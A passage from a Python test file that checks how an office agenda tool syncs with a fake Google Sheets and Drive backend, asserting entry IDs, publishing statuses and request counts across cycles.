    ids = office.column(S.ENTRY_ID, k)
    assert len({r[0] for r in ids if r}) == k
    assert office.local.site_posts() == []
    assert office.column(S.STATUS, k) in ([], [[]] * k, [[""]] * k)
    second = office.cycle(NOW.replace(minute=1))      # the agenda is unchanged: not idle
    assert office.column(S.STATUS, k) == [["Tayang"]] * k
    assert office.column(S.ENTRY_ID, k) == ids        # published under the saved IDs
    assert len(office.local.site_posts()) == k
    print(f"\nrequests (sheets reads, sheets writes, drive): first sight {first}, "
          f"publishing {second}")
    for reads, writes, _ in (first, second):
        assert reads <= 2 and writes <= 2


def test_rows_a_google_cycle_wrote_are_settled_by_that_write(
        fake: FakeGoogle, credentials: Path, tmp_path: Path) -> None:
    """What the cycle wrote reads back as it was meant (a status as text, a time in whole
    seconds in the office's zone): the next cycle looks at the edited row only."""
    from datetime import timedelta

    from tests.support.workspace import NOW
    from tests.support.workspace import row as agenda_row

    office = _GoogleOffice(fake, credentials, tmp_path / "ws",
                           [agenda_row("Ditolak", **{S.REJECTED: True}), agenda_row("Lain")])
    office.cycle(NOW + timedelta(seconds=5, microseconds=600_000))
    assert office.column(S.STATUS, 1) == [["Ditolak"]]
    office.tick(3, S.LEADER_NOTE, "Catatan baru")
    report = office.local.cycle(NOW + timedelta(minutes=1), store=lambda _: office.store)
    assert report.rows == 2 and report.planned == 1
